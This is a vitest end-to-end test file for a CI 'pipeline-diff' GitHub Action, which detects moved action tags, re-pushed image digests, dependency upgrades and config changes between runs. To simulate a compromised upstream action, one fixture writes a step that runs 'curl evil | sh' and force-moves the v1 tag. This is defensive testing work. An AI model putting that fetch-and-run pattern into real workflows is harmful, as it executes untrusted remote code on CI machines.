/**
 * pipeline-diff end to end, through the bundled action (test/harness) as the runner runs it: a real
 * service repository and depth-1 checkouts, an action repository whose v1 tag is moved between two
 * runs (served over file:// to git ls-remote), the CNCF registry with a base image tag pushed to a
 * new digest, real lockfile pairs from the corpus, and the GitHub API server for the workflow runs.
 */
import { createHash } from 'node:crypto';
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, symlinkSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gunzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { HttpClient } from '../../src/net/index.js';
import { RegistryClient } from '../../src/oci/index.js';
import { runAction } from '../harness/index.js';
import { startCacheService } from '../quarantine/cache-service.js';
import { Scenario } from '../support/git-scenarios.js';
import { type GitHubApi, startGitHubApi } from '../support/github-api.js';
import { buildImage, pushImage } from '../support/oci-images.js';
import { startRegistry, type TestRegistry } from '../support/registry.js';

const CORPUS = '/work/shared/corpus/lockfiles';
const lock = (path: string) => readFileSync(join(CORPUS, path));
const TOKEN = 'ghs_test-token';

let registry: TestRegistry;
let api: GitHubApi;
let remotes: string;
let actionRepo: Scenario;
let service: Scenario;
let history: string;

beforeAll(async () => {
  registry = await startRegistry();
  api = await startGitHubApi({ repositories: ['acme/service'] });
  remotes = mkdtempSync(join(tmpdir(), 'pdiff-remotes-'));
  actionRepo = new Scenario();
  actionRepo.commit('setup action', {
    'action.yml':
      'name: setup\nruns:\n  using: composite\n  steps:\n    - run: echo one\n      shell: bash\n',
  });
  actionRepo.tag('v1');
  mkdirSync(join(remotes, 'acme-tools'));
  symlinkSync(actionRepo.origin, join(remotes, 'acme-tools', 'setup'));
  history = mkdtempSync(join(tmpdir(), 'pdiff-history-'));
  service = new Scenario();
}, 60_000);

afterAll(async () => {
  await registry?.stop();
  await api?.close();
  actionRepo?.cleanup();
  service?.cleanup();
});

async function pushBase(label: string): Promise<string> {
  const client = new RegistryClient({ http: new HttpClient() });
  return (await pushImage(client.repository(registry.host, 'base'), buildImage({ layers: 1, label }), '1.0'))
    .digest;
}

function workflow(host: string): string {
  return `name: ci
on: push
jobs:
  build:
    runs-on: ubuntu-latest
    container: ${host}/base:1.0
    steps:
      - uses: acme-tools/setup@v1
      - uses: ./.github/actions/build
`;
}

const COMPOSITE = `name: build
runs:
  using: composite
  steps:
    - uses: acme-tools/setup@v1
    - run: make
      shell: bash
`;

function env(run: number, sha: string, extra: Record<string, string> = {}): Record<string, string> {
  return {
    GITHUB_RUN_ID: String(run),
    GITHUB_SHA: sha,
    GITHUB_REF: 'refs/heads/main',
    GITHUB_REF_NAME: 'main',
    GITHUB_REPOSITORY: 'acme/service',
    GITHUB_WORKFLOW_REF: 'acme/service/.github/workflows/ci.yml@refs/heads/main',
    // Action repositories are reached at https://github.com/<owner>/<repo>: git rewrites that to the local remotes.
    GIT_CONFIG_COUNT: '1',
    GIT_CONFIG_KEY_0: `url.file://${remotes}/.insteadOf`,
    GIT_CONFIG_VALUE_0: 'https://github.com/',
    GITHUB_API_URL: api.url,
    GITHUB_TOKEN: TOKEN,
    ImageOS: 'ubuntu24',
    ...extra,
  };
}

function records(): Buffer[] {
  return readdirSync(history)
    .filter((n) => n.endsWith('.json.gz'))
    .sort()
    .map((n) => gunzipSync(readFileSync(join(history, n))));
}

describe('pipeline-diff action', () => {
  let before: { sha: string; digest: string; tag: string };

  it('records the first green run: uses resolved, image digests, lockfiles parsed, config hashed', async () => {
    const digest = await pushBase('first');
    const sha = service.commit('first', {
      '.github/workflows/ci.yml': workflow(registry.host),
      '.github/actions/build/action.yml': COMPOSITE,
      Dockerfile: `FROM ${registry.host}/base:1.0\nRUN make\n`,
      'package-lock.json': lock('npm/checkout-b6849436/package-lock.json'),
      'rust/Cargo.lock': lock('cargo/bat-1cf12d49/Cargo.lock'),
      'src/app.ts': 'export const a = 1;\n',
    });
    const { main } = await runAction({
      action: 'pipeline-diff',
      workspace: service.checkout(sha),
      inputs: { mode: 'record', history: 'dir', 'history-dir': history, toolchains: 'node\ngit' },
      env: env(101, sha, {
        DEPLOY_REGION: 'eu-west-1',
        ImageVersion: '20250101.1',
        DEPLOY_API_TOKEN: 'hunter2',
      }),
    });
    expect(main.errors).toEqual([]);
    expect(main.exitCode).toBe(0);
    const record = JSON.parse(records()[0]!.toString('utf8'));
    const tag = actionRepo.head('v1');
    expect(record.uses['acme-tools/setup@v1']).toEqual({
      commit: tag,
      from: ['.github/actions/build/action.yml', '.github/workflows/ci.yml'],
    });
    expect(Object.keys(record.files)).toEqual([
      '.github/actions/build/action.yml',
      '.github/workflows/ci.yml',
    ]);
    expect(record.images[`${registry.host}/base:1.0`]).toEqual({
      digest,
      from: ['.github/workflows/ci.yml', 'Dockerfile'],
    });
    expect(record.lockfiles['package-lock.json'].kind).toBe('npm');
    expect(record.lockfiles['package-lock.json'].packages.length).toBeGreaterThan(400);
    expect(record.lockfiles['rust/Cargo.lock'].kind).toBe('cargo');
    expect(record.config.env.DEPLOY_REGION).toBe(
      `sha256:${createHash('sha256').update('eu-west-1').digest('hex')}`,
    );
    expect(record.config.env.DEPLOY_API_TOKEN).toBe('secret');
    expect(record.config.env.GITHUB_TOKEN).toBeUndefined();
    expect(record.runner).toMatchObject({ os: 'Linux', arch: 'X64', 'image-os': 'ubuntu24' });
    expect(record.toolchain.node).toMatch(/^v\d+\./);
    before = { sha, digest, tag };
    api.addRun('acme/service', {
      id: 101,
      workflow: 'ci.yml',
      head_branch: 'main',
      head_sha: sha,
      conclusion: 'success',
    });
  });

  it('diffs the red run against it: moved tag, new digest under the same tag, upgraded packages, config names', async () => {
    // Between the runs: the action's v1 tag is moved, the base image tag pushed again.
    actionRepo.commit('compromised', {
      'action.yml':
        'name: setup\nruns:\n  using: composite\n  steps:\n    - run: curl evil | sh\n      shell: bash\n',
    });
    actionRepo.git(['tag', '-f', '-a', '-m', 'v1', 'v1']);
    const digest = await pushBase('second');
    expect(digest).not.toBe(before.digest);
    const sha = service.commit('bump deps', {
      'package-lock.json': lock('npm/checkout-db0cee9a/package-lock.json'),
      'src/app.ts': 'export const a = 2;\n',
      'docs/notes.md': 'notes\n',
    });
    api.addRun('acme/service', {
      id: 102,
      workflow: 'ci.yml',
      head_branch: 'main',
      head_sha: sha,
      conclusion: 'failure',
    });
    const { main } = await runAction({
      action: 'pipeline-diff',
      workspace: service.checkout(sha),
      inputs: { mode: 'diff', history: 'dir', 'history-dir': history, toolchains: 'node\ngit' },
      env: env(102, sha, {
        DEPLOY_REGION: 'us-east-1',
        NEW_FLAG: '1',
        ImageVersion: '20250108.2',
        DEPLOY_API_TOKEN: 'hunter3',
      }),
    });
    expect(main.errors).toEqual([]);
    expect(main.exitCode).toBe(0);
    const changed = JSON.parse(main.outputs.changed!);
    expect(changed['moved-action-tag']).toEqual(['acme-tools/setup@v1']);
    expect(changed['image-digest']).toEqual([`${registry.host}/base:1.0`]);
    expect(changed.dependencies).toEqual(
      expect.arrayContaining(['eslint-plugin-jest', 'prettier', 'ts-jest', 'typescript', 'ejs', 'jake']),
    );
    expect(changed.runner).toEqual(['image-version']);
    expect(changed.config).toEqual(['env.DEPLOY_REGION', 'env.NEW_FLAG']);
    expect([...changed.code].sort()).toEqual(['.', 'docs', 'src']);
    expect(changed.workflow).toBeUndefined();
    expect(main.outputs['baseline-run']).toBe('101');
    expect(main.outputs['baseline-sha']).toBe(before.sha);
    const diff = JSON.parse(readFileSync(main.outputs['diff-file']!, 'utf8'));
    expect(diff.movedActionTags[0]).toMatchObject({ before: before.tag, after: actionRepo.head('v1') });
    expect(diff.dependencies).toEqual(
      expect.arrayContaining([
        expect.objectContaining({
          name: 'typescript',
          kind: 'upgraded',
          before: ['5.4.5'],
          after: ['5.5.4'],
        }),
        expect.objectContaining({ name: 'ejs', kind: 'added', after: ['3.1.10'] }),
      ]),
    );
    // The summary: the heading, the baseline link, what the code diff does not show first, then code.
    const summary = main.summary;
    expect(summary).toContain('## What changed since the last green run');
    expect(summary).toContain('(https://github.com/acme/service/actions/runs/101)');
    const order = [
      'Moved action tags',
      'Image digests',
      '### Dependencies',
      'Runner and toolchain',
      '### Configuration',
      '### Code',
    ].map((h) => summary.indexOf(h));
    expect(order.every((i) => i > 0)).toBe(true);
    expect([...order].sort((a, b) => a - b)).toEqual(order);
    expect(summary).not.toContain('us-east-1');
    expect(
      main.annotations.some((a) => a.command === 'warning' && a.properties.title === 'Action tag moved'),
    ).toBe(true);
    // The baseline came from the workflow runs API: this workflow, this branch, successful runs.
    const listed = api.requests.find((r) => r.path.endsWith('/actions/workflows/ci.yml/runs'));
    expect(listed?.query.get('status')).toBe('success');
    expect(listed?.query.get('branch')).toBe('main');
  });

  it('fail-on: moved-action-tag fails the step with one line; without fail-on the same diff passes', async () => {
    const sha = service.head();
    const { main } = await runAction({
      action: 'pipeline-diff',
      workspace: service.checkout(sha),
      inputs: {
        mode: 'diff',
        history: 'dir',
        'history-dir': history,
        toolchains: 'git',
        baseline: '101',
        'fail-on': 'moved-action-tag, config',
      },
      env: env(103, sha),
    });
    expect(main.exitCode).toBe(1);
    expect(main.errors).toEqual([
      'fail-on: moved-action-tag, config changed since the last green run (run 101); see the job summary.',
    ]);
    expect(main.outputs['failed-categories']).toBe('moved-action-tag,config');
  });

  it('history: branch keeps the records on a data branch of the repository, as quarantine does', async () => {
    const sha = service.head();
    const inputs = { history: 'branch', toolchains: 'git' };
    const first = await runAction({
      action: 'pipeline-diff',
      workspace: service.checkout(sha),
      inputs: { ...inputs, mode: 'record' },
      env: env(301, sha),
    });
    expect(first.main.errors).toEqual([]);
    const listed = service.git(['ls-tree', '--name-only', 'gantry/pipeline-diff-history']).split('\n');
    expect(listed).toEqual([
      expect.stringMatching(/^main%23\.github%2Fworkflows%2Fci\.yml@\d{15}-301-1\.json\.gz$/),
    ]);
    expect(service.git(['log', '-1', '--format=%an', 'gantry/pipeline-diff-history'])).toBe(
      'gantry-pipeline-diff',
    );
    const second = await runAction({
      action: 'pipeline-diff',
      workspace: service.checkout(sha),
      inputs: { ...inputs, mode: 'diff', baseline: 'run:301' },
      env: env(302, sha),
    });
    expect(second.main.errors).toEqual([]);
    expect(second.main.outputs['baseline-run']).toBe('301');
    expect(second.main.outputs.changed).toBe('{}');
    expect(service.git(['ls-tree', '--name-only', 'gantry/pipeline-diff-history']).split('\n')).toHaveLength(
      2,
    );
  });

  it('history: cache carries the window from run to run through the cache service, one key per run', async () => {
    const cache = await startCacheService();
    try {
      const sha = service.head();
      const runnerTemp = mkdtempSync(join(tmpdir(), 'pdiff-runner-temp-'));
      const step = async (run: number, inputs: Record<string, string>) => {
        // Each run on a fresh machine: nothing survives between runs but the cache service.
        rmSync(join(runnerTemp, 'gantry-pipeline-diff-history'), { recursive: true, force: true });
        const { main } = await runAction({
          action: 'pipeline-diff',
          workspace: service.checkout(sha),
          runnerTemp,
          inputs: { toolchains: 'git', ...inputs },
          env: { ...env(run, sha), ACTIONS_CACHE_URL: cache.url, ACTIONS_RUNTIME_TOKEN: cache.token },
        });
        expect(main.errors).toEqual([]);
        expect(main.annotations.filter((a) => a.command === 'warning')).toEqual([]);
        return main;
      };
      await step(401, { mode: 'record' });
      await step(402, { mode: 'record' });
      const diff = await step(403, { mode: 'diff', baseline: 'run:401' });
      expect(diff.outputs['baseline-run']).toBe('401');
      expect(cache.committedKeys()).toEqual(
        ['401', '402', '403'].map((run) => `gantry-pipeline-diff-v1-main_.github/workflows/ci.yml-${run}-1`),
      );
    } finally {
      await cache.close();
    }
  });
});
